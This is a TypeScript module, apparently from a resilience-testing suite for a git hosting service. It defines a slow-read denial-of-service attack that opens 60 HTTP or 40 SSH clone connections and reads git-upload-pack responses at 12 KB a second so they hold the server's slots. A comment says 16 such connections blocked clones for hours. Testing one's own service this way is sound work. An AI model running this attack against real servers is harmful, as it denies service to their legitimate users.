import { fetchBody, fetchHeaders } from '../wire/fetch-request.ts'
import { hold } from '../wire/hammer.ts'
import { readSlowly } from '../wire/read-slowly.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import { channelClosed, holdOverSsh, runOverSsh } from '../wire/ssh.ts'
import { type Attack, factOf } from './attack.ts'

const bytesPerSecond = 12 * 1024

/** 16 of these held all slots for clones for hours. */
export const slowFetchers: Attack = {
  name: 'slow-fetchers',
  about: '60 clones that read 12 KB a second',
  doors: ['http', 'ssh'],
  roles: ['visitor', 'account'],
  grave: true,
  async prepare({ shared }) {
    return { repository: [shared.repository], commits: shared.commits.slice(0, 1) }
  },
  async play(play) {
    const repository = factOf(play, 'repository')
    const body = (n: number) => fetchBody([`want ${factOf(play, 'commits')}`, `deepen ${1_000 + n}`])
    if (play.phase.door === 'ssh') {
      let n = 0
      return holdOverSsh(play, {
        connections: 40,
        async work(client) {
          n += 1
          const command = `git-upload-pack '/${repository}.git'`
          const channel = await runOverSsh(client, { command, protocol: 'version=2' })
          channel.write(body(n))
          const stop = readSlowly(channel, bytesPerSecond)
          await channelClosed(channel)
          stop()
          play.count('ended by the server')
        },
      })
    }
    return hold(play, {
      connections: 60,
      bytesPerSecond,
      request: (sender, n) =>
        requestBytes({
          method: 'POST',
          path: `/${repository}.git/git-upload-pack`,
          headers: { ...fetchHeaders, ...basic(sender) },
          body: body(n),
        }),
    })
  },
}
